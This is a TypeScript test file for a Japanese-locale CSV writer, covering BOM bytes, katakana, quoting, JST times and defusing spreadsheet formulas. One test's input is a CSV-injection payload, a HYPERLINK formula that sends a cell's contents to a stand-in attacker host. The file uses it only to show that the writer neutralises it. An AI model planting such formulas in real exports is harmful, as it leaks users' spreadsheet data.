// Goal: the one CSV writer: bytes Excel on Japanese Windows opens right (BOM, katakana), RFC 4180
// quoting, formulas kept as text, JST times and file names.
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { csvCell, csvDocument, csvFileName, csvRecord, isoJst, jstFileStamp, neutraliseFormula } from "./csv.ts";

/** A minimal RFC 4180 reader, to check that what we write reads back as what we meant. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  return rows;
}

describe("csv bytes", () => {
  const file = csvDocument(["holder_name", "amount_yen"], [["ヤマダ タロウ", 1000], ["ｶﾞｸｼｭｳ ﾊﾅｺ", 2]]);
  const bytes = Buffer.from(file, "utf8");

  it("start with the UTF-8 BOM EF BB BF, then the header", () => {
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3, 14).toString("latin1")).toBe("holder_name");
  });

  it("carry katakana (full- and half-width) intact as UTF-8, CRLF after every record", () => {
    // ヤ is U+30E4: E3 83 A4 in UTF-8 (Shift_JIS would be 83 84).
    expect(bytes.includes(Buffer.from([0xe3, 0x83, 0xa4]))).toBe(true);
    const decoded = new TextDecoder("utf-8", { fatal: true }).decode(bytes); // strips the BOM
    expect(decoded).toBe("holder_name,amount_yen\r\nヤマダ タロウ,1000\r\nｶﾞｸｼｭｳ ﾊﾅｺ,2\r\n");
  });
});

describe("csvCell", () => {
  it("neutralises formula starts (= + - @ tab CR, and their full-width forms) in text", () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    expect(csvCell(evil)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const s of ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠x"]) expect(csvCell(s).replace(/^"/, "")).toMatch(/^'/);
    expect(csvCell("ヤマダ タロウ")).toBe("ヤマダ タロウ");
    expect(csvCell("a=b")).toBe("a=b");
  });

  it("writes numbers as numbers (a negative amount stays a number), nothing for null", () => {
    expect(csvCell(-1000)).toBe("-1000");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(true)).toBe("true");
  });

  it("writes a Date in JST with +09:00, and objects as JSON text", () => {
    expect(csvCell(new Date("2026-12-03T09:00:00.123Z"))).toBe("2026-12-03T18:00:00+09:00");
    expect(csvCell({ a: "=1" })).toBe(`"{""a"":""=1""}"`);
  });

  it("any text reads back exactly, apart from the apostrophe that defuses a formula (property)", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "grapheme", maxLength: 12 }), { minLength: 1, maxLength: 5 }), (cells) => {
        const [parsed] = parseCsv(csvRecord(cells));
        expect(parsed).toEqual(cells.map(neutraliseFormula));
        for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
      { numRuns: 300 },
    );
  });
});

describe("JST times and file names", () => {
  it("isoJst carries +09:00 and crosses the date line", () => {
    expect(isoJst(new Date("2026-12-03T15:30:59.999Z"))).toBe("2026-12-04T00:30:59+09:00");
    expect(isoJst(null)).toBe("");
  });

  it("file names say the JST minute", () => {
    expect(jstFileStamp(new Date("2026-12-03T09:00:00Z"))).toBe("20261203-1800JST");
    expect(csvFileName("payout-batch-1a2b3c4d", new Date("2026-12-03T09:00:00Z"))).toBe("payout-batch-1a2b3c4d-20261203-1800JST.csv");
    expect(csvFileName("a/b c", new Date("2026-12-03T15:00:00Z"))).toBe("a_b_c-20261204-0000JST.csv");
  });
});
